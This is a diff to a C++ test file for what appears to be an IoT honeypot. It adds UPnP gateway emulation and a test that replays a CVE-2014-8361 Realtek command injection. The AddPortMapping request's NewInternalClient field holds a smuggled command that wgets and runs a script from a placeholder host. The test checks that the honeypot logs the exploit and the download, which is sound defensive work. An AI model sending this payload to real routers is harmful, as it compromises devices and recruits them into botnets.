@@ -33,12 +33,19 @@ struct Transcript {
 };
 
 Transcript replay(const std::string& input, std::size_t chunk,
-                  std::shared_ptr<const ExploitRules> rules) {
-  DevicePersona persona = web_camera();
+                  std::shared_ptr<const ExploitRules> rules,
+                  const DevicePersona& persona = web_camera(),
+                  std::shared_ptr<upnp::PortMappingTable> mappings = nullptr) {
   AllowRoot gate;
-  HttpSession session(persona, persona_filesystem(persona), rules, gate, 0);
+  HttpSession session(persona, persona_filesystem(persona), rules, gate, 0, mappings);
+  session.set_local_address("198.51.100.7");
   Transcript t;
   auto add = [&](SessionActions a) {
+    // The Date header is the clock's, not the session's: left out of the comparison.
+    for (std::size_t at = a.send.find("Date: "); at != std::string::npos;
+         at = a.send.find("Date: ", at)) {
+      a.send.erase(at, a.send.find("\r\n", at) + 2 - at);
+    }
     t.sent += a.send;
     for (const auto& e : a.events) {
       nlohmann::json fields = e.fields;
@@ -132,6 +139,74 @@ TEST(HttpSession, GarbageAndOversizedRequestsEndTheConnectionWithAStatus) {
   // Bare LF line ends and a missing version are still a request.
   Transcript lenient = replay("GET /\n\n", 100, nullptr);
   EXPECT_NE(lenient.sent.find("HTTP/1.0 200 OK"), std::string::npos) << lenient.sent;
+}
+
+DevicePersona gateway() {
+  DevicePersona p = test_persona("router", "mips", "GW");
+  p.serial = "00A1B2C3D4E5";
+  p.upnp_device_type = "urn:schemas-upnp-org:device:InternetGatewayDevice:1";
+  p.upnp_services = {"urn:schemas-upnp-org:service:WANIPConnection:1"};
+  return p;
+}
+
+std::string post(std::string_view path, std::string_view soap_action, std::string_view body) {
+  return fmt::format(
+      "POST {} HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nSOAPAction: \"{}\"\r\n"
+      "Content-Length: {}\r\n\r\n{}",
+      path, soap_action, body.size(), body);
+}
+
+// A control point's session (description, SCPD, two actions) and CVE-2014-8361 in the same
+// connection, in any chunking: the same replies, events and injected download.
+TEST(HttpSession, UpnpDescriptionSoapActionsAndTheRealtekInjection) {
+  auto rules = ExploitRules::load({MITSU_DEFAULT_EXPLOITS_DIR});
+  ASSERT_TRUE(rules);
+  std::string service = "urn:schemas-upnp-org:service:WANIPConnection:1";
+  auto envelope = [&](std::string_view action, std::string_view args) {
+    return fmt::format(
+        "<?xml version=\"1.0\"?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/"
+        "envelope/\"><s:Body><u:{0} xmlns:u=\"{1}\">{2}</u:{0}></s:Body></s:Envelope>",
+        action, service, args);
+  };
+  std::string input =
+      "GET /rootDesc.xml HTTP/1.1\r\nHost: x\r\n\r\nGET /WANIPConnection.xml HTTP/1.1\r\n\r\n" +
+      post("/ctl/WANIPConnection", service + "#GetExternalIPAddress",
+           envelope("GetExternalIPAddress", "")) +
+      post("/ctl/WANIPConnection", service + "#AddPortMapping",
+           envelope("AddPortMapping",
+                    "<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
+                    "<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
+                    "<NewInternalClient>`cd /var; wget http://192.0.2.9/rt; sh rt`"
+                    "</NewInternalClient><NewEnabled>1</NewEnabled>"
+                    "<NewPortMappingDescription>x</NewPortMappingDescription>"
+                    "<NewLeaseDuration>0</NewLeaseDuration>"));
+  DevicePersona persona = gateway();
+  auto whole =
+      replay(input, input.size(), *rules, persona, std::make_shared<upnp::PortMappingTable>());
+  EXPECT_NE(whole.sent.find("<deviceType>urn:schemas-upnp-org:device:InternetGatewayDevice:1"),
+            std::string::npos);
+  EXPECT_NE(whole.sent.find("<name>AddPortMapping</name>"), std::string::npos);
+  EXPECT_NE(whole.sent.find("<NewExternalIPAddress>198.51.100.7</NewExternalIPAddress>"),
+            std::string::npos);
+  EXPECT_NE(whole.sent.find("<u:AddPortMappingResponse"), std::string::npos) << whole.sent;
+  std::vector<std::string> kinds;
+  for (const auto& e : whole.events) {
+    kinds.push_back(e.substr(0, e.find(' ')));
+  }
+  EXPECT_EQ(kinds,
+            (std::vector<std::string>{"http.request", "http.request", "http.request", "upnp.action",
+                                      "http.request", "exploit", "command", "upnp.action"}));
+  EXPECT_NE(whole.events[5].find("CVE-2014-8361"), std::string::npos);
+  EXPECT_NE(whole.events[7].find(R"("NewInternalClient":"`cd /var; wget http://192.0.2.9/rt)"),
+            std::string::npos)
+      << whole.events[7];
+  EXPECT_EQ(whole.downloads, std::vector<std::string>{"http://192.0.2.9/rt"});
+  for (std::size_t chunk : {1u, 2u, 5u, 100u}) {
+    auto t = replay(input, chunk, *rules, persona, std::make_shared<upnp::PortMappingTable>());
+    EXPECT_EQ(t.sent, whole.sent) << chunk;
+    EXPECT_EQ(t.events, whole.events) << chunk;
+    EXPECT_EQ(t.downloads, whole.downloads) << chunk;
+  }
 }
 
 }  // namespace
